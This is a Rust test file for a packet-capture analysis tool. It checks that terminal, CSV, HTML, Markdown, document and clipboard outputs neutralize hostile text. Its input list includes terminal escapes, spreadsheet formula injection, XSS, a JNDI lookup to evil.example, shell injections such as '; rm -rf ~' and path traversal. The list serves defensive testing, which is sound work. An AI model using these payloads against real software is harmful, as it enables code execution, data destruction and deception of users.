//! Hostile text through every way out: nothing that steers a terminal, deceives a reader or runs in a viewer comes through.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test that cannot go on ends"
)]

mod bench;

use std::io::Read as _;
use std::path::Path;
use std::process::Command;

use bench::Bench;
use portmortem::capture;
use portmortem::case::{Annotation, Case, Event, FrameRef, Place};
use portmortem::generate::{Packet, PcapWriter, Variant, dns, link};
use portmortem::index::Input;
use portmortem::text::is_unsafe;

/// Texts, as bytes: some are no UTF-8. Each is tried as a name in DNS, as a note, as a file name and as an argument.
const HOSTILE: &[&[u8]] = &[
    // Control characters of the first kind, alone and as sequences.
    b"\x00nul",
    b"a\x00b",
    b"\x01\x02\x03",
    b"\x07bell",
    b"\x08\x08back",
    b"tab\there",
    b"line\nbreak",
    b"\x0b\x0c",
    b"return\rback",
    b"\x0e\x0f",
    b"\x1b[31mred",
    b"\x1b[2J\x1b[H",
    b"\x1b]0;title\x07",
    b"\x1b]2;title\x1b\\",
    b"\x1b]52;c;cm0gLXJm\x07",
    b"\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    b"\x1bP1$tx\x1b\\",
    b"\x1b_Gi=1\x1b\\",
    b"\x1b[6n",
    b"\x1b[c",
    b"\x1bc",
    b"\x1b[?1049h",
    b"\x1b[200~paste\x1b[201~",
    b"\x7fdel",
    b"\x1a\x1a",
    // Of the second kind, as UTF-8 and as single bytes.
    "\u{80}\u{85}\u{8d}".as_bytes(),
    "\u{9b}31mred".as_bytes(),
    "\u{9d}0;title\u{9c}".as_bytes(),
    b"\x9b31m",
    b"\x90x\x9c",
    // Text that runs the other way, or is not seen.
    "\u{202e}gnp.exe".as_bytes(),
    "\u{202d}\u{202c}".as_bytes(),
    "\u{2066}x\u{2069}".as_bytes(),
    "\u{200e}\u{200f}".as_bytes(),
    "\u{61c}x".as_bytes(),
    "a\u{200b}b".as_bytes(),
    "a\u{200d}b\u{200c}".as_bytes(),
    "\u{feff}bom".as_bytes(),
    "\u{2060}wj".as_bytes(),
    "\u{ad}shy".as_bytes(),
    "\u{3164}filler".as_bytes(),
    "\u{115f}\u{1160}".as_bytes(),
    "\u{e0041}\u{e007f}".as_bytes(),
    "x\u{fe0f}\u{fe00}".as_bytes(),
    "\u{2028}\u{2029}".as_bytes(),
    "\u{fff9}a\u{fffa}b\u{fffb}".as_bytes(),
    "\u{e000}".as_bytes(),
    "\u{180e}".as_bytes(),
    "\u{34f}".as_bytes(),
    // Marks piled on one letter, and letters that look like others.
    "z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}".as_bytes(),
    "\u{430}pple".as_bytes(),
    "\u{fb01}".as_bytes(),
    // Formulas of spreadsheets.
    b"=cmd|'/C calc'!A0",
    b"+1+1",
    b"-2+3",
    b"@SUM(A1)",
    b"=HYPERLINK(\"http://evil.example\")",
    b"\t=1+1",
    b"%0A=1",
    // Markup.
    b"<script>alert(1)</script>",
    b"<img src=x onerror=alert(1)>",
    b"\"><svg onload=1>",
    b"&lt;b&gt;",
    b"]]><x/>",
    b"<!--x-->",
    b"</td></table>",
    b"[x](javascript:alert(1))",
    b"![x](http://evil.example/p)",
    b"`code` *bold* _it_",
    b"# head",
    b"|cell|cell|",
    b"***",
    b"> quote",
    b"<http://evil.example>",
    b"~~~",
    b"\\<b>\\*",
    // Templates, formats, shells.
    b"{{ 7*7 }}",
    b"{% for x in y %}",
    b"{# x #}",
    b"${jndi:ldap://evil.example}",
    b"%s%n%x",
    b"$(reboot)",
    b"`reboot`",
    b"; rm -rf ~",
    b"a'b\"c",
    b"a&&b||c",
    b"-rf",
    b"--output=/etc/passwd",
    b"--help",
    b"~/.ssh",
    b"../../etc/passwd",
    b"C:\\x\\y",
    b"a\\x1bb",
    // Bytes that are no UTF-8: overlong, surrogates, beyond the end, cut.
    b"\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\xe2\x82",
    b"\xff\xfe",
];

/// A capture of failed lookups for names made of the hostile texts, asked again and again so that the report speaks of them.
fn capture_of(texts: &[&[u8]], path: &Path) {
    let mut writer = PcapWriter::new(Vec::new(), Variant::default(), link::ETHERNET).unwrap();
    let mut at_ns = 1_700_000_000_000_000_000_i64;
    for (number, text) in texts.iter().enumerate() {
        let text = &text[..text.len().min(50)];
        // As long as the text, which then takes its place.
        let stand_in = "Q".repeat(text.len().max(1));
        let name = format!("{stand_in}.example");
        for try_ in 0..2_u16 {
            let id = u16::try_from(number).unwrap() * 4 + try_;
            let replaced = |mut message: Vec<u8>| {
                let at =
                    message.windows(stand_in.len()).position(|window| window == stand_in.as_bytes()).unwrap();
                message[at..at + text.len()].copy_from_slice(text);
                message
            };
            let query = Packet::udp("10.0.0.2:5353", "10.0.0.53:53", &replaced(dns::query(id, &name, 1)));
            let answer =
                Packet::udp("10.0.0.53:53", "10.0.0.2:5353", &replaced(dns::failure(id, &name, 1, 2)));
            for packet in [query, answer] {
                at_ns += 50_000_000;
                let frame = packet.ethernet();
                writer.packet(at_ns, &frame).unwrap();
            }
        }
    }
    std::fs::write(path, writer.finish().unwrap()).unwrap();
}

fn run(home: &Path, arguments: &[&std::ffi::OsStr]) -> (Vec<u8>, Vec<u8>) {
    let output = Command::new(env!("CARGO_BIN_EXE_portmortem"))
        .args(arguments)
        .current_dir(home)
        .env("HOME", home)
        .output()
        .unwrap();
    assert!(output.status.code().is_some_and(|code| code <= 2), "{arguments:?}: {output:?}");
    (output.stdout, output.stderr)
}

/// That a text is UTF-8 and has nothing in it that is not seen as what it is.
fn assert_clean(what: &str, bytes: &[u8]) {
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => text,
        Err(error) => panic!("{what}: no UTF-8 at byte {}", error.valid_up_to()),
    };
    let bad = text.char_indices().find(|(_, c)| is_unsafe(*c) && *c != '\n');
    if let Some((at, character)) = bad {
        let from = text[..at].char_indices().rev().nth(60).map_or(0, |(at, _)| at);
        panic!("{what}: {:?} in {:?}", character, &text[from..at + character.len_utf8()]);
    }
}

fn assert_no_markup(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes).to_lowercase();
    for mark in
        ["<script>alert", "<img src=x", "<svg onload", "href=\"javascript:", "src=\"http", "</td></table>-"]
    {
        assert!(!text.contains(mark), "{what}: {mark}");
    }
}

/// What a reader of Markdown makes of a text: in code anything may stand, outside of it no tag and no link that runs.
fn assert_plain_markdown(what: &str, bytes: &[u8]) {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let text = std::str::from_utf8(bytes).unwrap();
    for event in Parser::new_ext(text, Options::ENABLE_TABLES) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => {
                let own = ["<details", "</details", "<summary", "</summary", "<a id=", "</a", "<br", "<!--"];
                assert!(own.iter().any(|tag| html.trim_start().starts_with(tag)), "{what}: {html}");
                assert_no_markup(what, html.as_bytes());
            }
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                assert!(
                    !dest_url.starts_with("javascript:") && !dest_url.contains("evil.example"),
                    "{what}: {dest_url}"
                );
            }
            _ => {}
        }
    }
}

fn home() -> (tempfile::TempDir, String) {
    let home = tempfile::tempdir().unwrap();
    let name = "c.pcap".to_owned();
    capture_of(HOSTILE, &home.path().join(&name));
    let place = Place { capture: Some(home.path().join(&name)), ..Place::default() };
    let mut case = Case::open(place);
    for (id, text) in (1..).zip(HOSTILE) {
        let text = String::from_utf8_lossy(text).into_owned();
        let frames = vec![FrameRef { source: 0, frame: id }];
        let annotation = Annotation { id, frames, note: text.clone(), tag: text.clone(), severity: None };
        case.apply(Event::Annotate { annotation }, 0);
        case.apply(Event::Fill { field: "impact".to_owned(), value: Some(text) }, 0);
    }
    (home, name)
}

#[test]
fn there_are_enough_of_them() {
    assert!(HOSTILE.len() >= 80, "{}", HOSTILE.len());
}

#[test]
fn standard_output_of_every_command_is_clean() {
    let (home, name) = home();
    let commands: &[&[&str]] = &[
        &["packets"],
        &["packets", "--format", "json"],
        &["dns"],
        &["dns", "--format", "json"],
        &["dns", "--format", "csv"],
        &["attempts"],
        &["attempts", "--format", "json"],
        &["attempts", "--format", "csv"],
        &["episodes"],
        &["episodes", "--format", "json"],
        &["episodes", "--format", "csv"],
        &["findings"],
        &["findings", "--format", "json"],
        &["lint"],
        &["report", "--format", "markdown"],
        &["report", "--format", "text"],
        &["report", "--format", "html"],
        &["report", "--format", "json"],
        &["report", "--format", "ecs"],
        &["report", "--format", "iris"],
        &["report", "--template", "ticket"],
        &["report", "--template", "google"],
        &["report", "--template", "seed-log"],
        &["report", "--template", "walkthrough"],
        &["report", "--template", "long"],
    ];
    for command in commands {
        let arguments: Vec<&std::ffi::OsStr> =
            command.iter().map(|word| (*word).as_ref()).chain([name.as_ref()]).collect();
        let (out, error) = run(home.path(), &arguments);
        let what = command.join(" ");
        assert!(!out.is_empty(), "{what}: {}", String::from_utf8_lossy(&error));
        assert_clean(&what, &out);
        assert_clean(&format!("{what}, standard error"), &error);
        if what.contains("html") {
            assert_no_markup(&what, &out);
        }
        if what.contains("markdown") || what.contains("--template") {
            assert_plain_markdown(&what, &out);
        }
        if what.contains("csv") {
            assert_no_formulas(&what, &out);
        }
    }
    for frame in 1..=HOSTILE.len() {
        if frame % 8 == 1 {
            let frame = frame.to_string();
            let (out, _) = run(home.path(), &["explain".as_ref(), name.as_ref(), frame.as_ref()]);
            assert_clean("explain", &out);
        }
    }
}

fn assert_no_formulas(what: &str, bytes: &[u8]) {
    for record in csv::ReaderBuilder::new().flexible(true).from_reader(bytes).records() {
        for field in &record.unwrap() {
            let begins = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!begins || field.parse::<f64>().is_ok(), "{what}: {field:?}");
        }
    }
}

#[test]
fn documents_and_bundles_carry_text_and_nothing_else() {
    let (home, name) = home();
    for out in ["r.docx", "b.zip"] {
        let arguments: [&std::ffi::OsStr; 4] = if out == "b.zip" {
            ["export".as_ref(), "--bundle".as_ref(), out.as_ref(), name.as_ref()]
        } else {
            ["report".as_ref(), "-o".as_ref(), out.as_ref(), name.as_ref()]
        };
        let (_, error) = run(home.path(), &arguments);
        let file = std::fs::File::open(home.path().join(out))
            .unwrap_or_else(|_| panic!("{out}: {}", String::from_utf8_lossy(&error)));
        let mut archive = zip::ZipArchive::new(file).unwrap();
        for at in 0..archive.len() {
            let mut file = archive.by_index(at).unwrap();
            let inside = file.name().unwrap().into_owned();
            assert_clean("a name in an archive", inside.as_bytes());
            let mut bytes = Vec::new();
            file.read_to_end(&mut bytes).unwrap();
            let what = format!("{out}: {inside}");
            if [".xml", ".rels", ".md", ".html", ".json", ".csv", ".txt"]
                .iter()
                .any(|end| inside.ends_with(end))
            {
                assert_clean(&what, &bytes);
                match inside.rsplit('.').next() {
                    Some("md") => assert_plain_markdown(&what, &bytes),
                    Some("json" | "csv") => {}
                    _ => assert_no_markup(&what, &bytes),
                }
            }
        }
    }
    for out in ["r.pdf", "r.pcapng"] {
        run(home.path(), &["report".as_ref(), "-o".as_ref(), out.as_ref(), name.as_ref()]);
        let bytes = std::fs::read(home.path().join(out)).unwrap();
        let actions = [&b"/JavaScript"[..], b"/Launch", b"/OpenAction", b"/EmbeddedFile"];
        assert!(
            out != "r.pdf" || actions.iter().all(|mark| memchr::memmem::find(&bytes, mark).is_none()),
            "{out}"
        );
    }
}

#[test]
fn errors_about_hostile_arguments_and_names_are_clean() {
    use std::os::unix::ffi::OsStrExt as _;
    let (home, name) = home();
    let seed = std::fs::read(home.path().join(&name)).unwrap();
    let folder = home.path().join("folder");
    std::fs::create_dir(&folder).unwrap();
    for text in HOSTILE.iter().filter(|text| !text.contains(&0)) {
        let text = std::ffi::OsStr::from_bytes(text);
        for arguments in [
            vec!["packets".as_ref(), text],
            vec!["packets".as_ref(), "--filter".as_ref(), text, name.as_ref()],
            vec!["report".as_ref(), "--template".as_ref(), text, name.as_ref()],
            vec!["report".as_ref(), "--format".as_ref(), text, name.as_ref()],
            vec!["verify".as_ref(), text],
            vec![text, text],
        ] {
            // The last may open a screen, which it cannot without a terminal.
            let (out, error) = run(home.path(), &arguments);
            assert_clean(&format!("{arguments:?}, standard error"), &error);
            assert_clean(&format!("{arguments:?}"), &out);
        }
        if !text.as_bytes().contains(&b'/') {
            std::fs::write(folder.join(text), b"no capture").unwrap();
            let mut capture = text.to_owned();
            capture.push(".pcap");
            std::fs::write(folder.join(&capture), &seed[..seed.len() - 3]).unwrap();
        }
    }
    for command in ["packets", "findings", "report"] {
        let (out, error) = run(home.path(), &[command.as_ref(), "folder".as_ref()]);
        assert_clean(command, &out);
        assert_clean(&format!("{command} of a folder, standard error"), &error);
    }
}

#[test]
fn the_screen_its_lists_and_the_clipboard_are_clean() {
    let (home, _) = home();
    let path = home.path().join("c.pcap");
    let hostile_name = "c\u{1b}]0;x\u{7}\u{202e}.pcap";
    let bytes: &'static [u8] = std::fs::read(&path).unwrap().leak();
    let (source, walk) = capture::open_bytes(hostile_name, bytes).unwrap();
    let mut bench = Bench::with(vec![Input { source, walk, offset_ns: 0 }], 150, 45);
    let check = |bench: &Bench, what: &str| {
        let buffer = bench.buffer();
        for cell in buffer.content() {
            assert!(!cell.symbol().chars().any(is_unsafe), "{what}: {:?}", cell.symbol());
        }
    };
    for keys in ["1", "2", "b", "w", "3", "4", "c", "d", "L", "1", "G", "g g"] {
        bench.keys(keys);
        check(&bench, keys);
        for _ in 0..HOSTILE.len() {
            bench.keys("j");
            check(&bench, keys);
        }
    }
    bench.keys("1 g g");
    for text in ["/dns.qry.name == ", "/dns.qry.name contains \""] {
        bench.text(text);
        check(&bench, text);
        bench.keys("Tab");
        check(&bench, text);
        bench.keys("Esc");
    }
    for _ in 0..40 {
        bench.keys("y Enter Esc j j");
    }
    for copied in &bench.copied {
        let lines = copied.replace('\n', "");
        assert!(!lines.chars().any(is_unsafe), "{copied:?}");
    }
}
